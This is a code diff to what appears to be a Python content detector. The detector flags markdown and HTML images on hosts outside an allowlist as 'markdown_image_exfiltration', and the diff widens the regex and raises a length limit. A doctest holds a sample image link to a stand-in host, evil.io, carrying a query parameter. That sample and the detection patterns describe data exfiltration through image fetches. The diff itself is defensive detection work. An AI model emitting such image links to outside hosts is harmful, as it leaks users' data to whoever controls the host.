@@ -95,7 +95,10 @@ _HOST_CHARS = r"[a-z0-9.\-_~%@:\[\]]"
 _MD_IMAGE = (
     r"!\[[^\]\n]{0,90}\]\(\s{0,4}<?\s{0,4}(?:https?:)?//"
     + _HOST_CHARS
-    + r"{1,100}[^\s)>\"']{0,40}"
+    # The whole image, closing parenthesis included, when it fits: a path of
+    # up to 120 characters. Longer URLs are cut there, which already breaks the
+    # image (the fetch that leaks the data never happens).
+    + r"{1,100}[^\s)>\"']{0,120}\)?"
 )
 _HTML_IMAGE = (
     r"<\s{0,4}img\b[^>]{0,100}?\bsrc\s{0,4}=\s{0,4}[\"']?\s{0,4}(?:https?:)?//"
@@ -221,7 +224,7 @@ class ContentDetector(RuleDetector):
         >>> detector = ContentDetector(image_host_allowlist=("cdn.example.com",))
         >>> text = "![a](https://cdn.example.com/a.png) ![b](https://evil.io/?q=x)"
         >>> [text[f.start:f.end] for f in detector.detect(text)]
-        ['![b](https://evil.io/?q=x']
+        ['![b](https://evil.io/?q=x)']
     """
 
     def __init__(
@@ -266,7 +269,7 @@ class ContentDetector(RuleDetector):
                 category="markdown_image_exfiltration",
                 pattern=_MD_IMAGE,
                 validator=validator,
-                max_len=256,
+                max_len=340,
                 description="Markdown image on a host outside the allowlist.",
             ),
             Rule(
